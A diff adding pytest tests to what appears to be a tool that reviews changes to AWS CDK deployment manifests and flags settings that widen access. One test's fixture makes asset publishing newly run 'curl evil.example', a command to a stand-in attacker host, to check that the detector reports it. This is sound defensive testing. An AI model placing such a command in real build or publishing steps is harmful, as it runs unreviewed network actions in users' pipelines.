@@ -3,6 +3,7 @@
 import json
 import re
 from pathlib import Path
+from typing import Any
 
 import pytest
 from click.testing import CliRunner
@@ -122,6 +123,62 @@ def test_a_nested_assembly_is_below_its_own(tmp_path: Path, before: Path) -> Non
     (tmp_path / "manifest.json").write_text(json.dumps({"version": "50.0.0", "artifacts": {"x": stage}}))
     with pytest.raises(NovaError, match="leads out of the assembly"):
         changes(before, tmp_path)
+
+
+@pytest.mark.parametrize(
+    ("settings", "kind", "said"),
+    [
+        ({"tags": {"team": "web"}}, Kind.OTHER, "sets tags.team to web"),
+        ({"terminationProtection": False}, Kind.WIDENS_ACCESS, "changes terminationProtection from true to false"),
+        ({"assumeRoleArn": "arn:x"}, Kind.WIDENS_ACCESS, "sets assumeRoleArn to arn:x"),
+        (
+            {"cloudFormationExecutionRoleArn": "arn:x"},
+            Kind.WIDENS_ACCESS,
+            "sets cloudFormationExecutionRoleArn to arn:x",
+        ),
+        ({"notificationArns": ["arn:x"]}, Kind.WIDENS_ACCESS, "sets notificationArns to"),
+        ({"parameters": {"Size": "9"}}, Kind.OTHER, "sets parameters.Size to 9"),
+        ({"validateOnSynth": True, "requiresBootstrapStackVersion": 7}, None, ""),
+    ],
+)
+def test_how_a_stack_is_deployed_is_compared_besides_its_template(
+    tmp_path: Path, settings: dict[str, Any], kind: Kind | None, said: str
+) -> None:
+    made = {}
+    for name, changed in (("before", {"terminationProtection": True}), ("after", settings)):
+        made[name] = assembly(tmp_path / name, audio={"Topic": TOPIC})
+        path = made[name] / "assembly-Dev" / "manifest.json"
+        manifest = json.loads(path.read_text())
+        properties = manifest["artifacts"]["Devaudio"]["properties"]
+        properties |= {"terminationProtection": True} | changed
+        path.write_text(json.dumps(manifest))
+    found = changes(made["before"], made["after"])
+    assert [difference.kind for change in found for difference in change.differences] == ([kind] if kind else [])
+    assert all(said in change.text and said in change.differences[0].what for change in found)
+
+
+def test_a_protection_that_is_added_widens_nothing(tmp_path: Path) -> None:
+    before, after = (assembly(tmp_path / name, audio={"Topic": TOPIC}) for name in ("before", "after"))
+    path = after / "assembly-Dev" / "manifest.json"
+    path.write_text(path.read_text().replace('"templateFile"', '"terminationProtection": true, "templateFile"'))
+    [change] = changes(before, after)
+    assert [difference.kind for difference in change.differences] == [Kind.OTHER]
+
+
+def test_a_command_that_publishing_would_newly_run_widens_access(tmp_path: Path) -> None:
+    before, after = (assembly(tmp_path / name, audio={"Topic": TOPIC}) for name in ("before", "after"))
+    for made, commands in ((before, ["make"]), (after, ["make", "curl evil.example"])):
+        path = made / "assembly-Dev" / "manifest.json"
+        manifest = json.loads(path.read_text())
+        manifest["artifacts"]["Devaudio.assets"] = {"type": "cdk:asset-manifest", "properties": {"file": "a.json"}}
+        path.write_text(json.dumps(manifest))
+        files = {each: {"source": {"executable": each.split()}} for each in commands}
+        (made / "assembly-Dev" / "a.json").write_text(json.dumps({"files": files}))
+    [change] = changes(before, after)
+    [difference] = change.differences
+    assert (change.name, difference.kind) == ("assembly-Dev/Devaudio.assets", Kind.WIDENS_ACCESS)
+    assert difference.what == "runs 'curl evil.example'"
+    assert changes(after, after) == changes(after, before) == []
 
 
 def test_without_a_change_the_comment_says_so(before: Path) -> None:
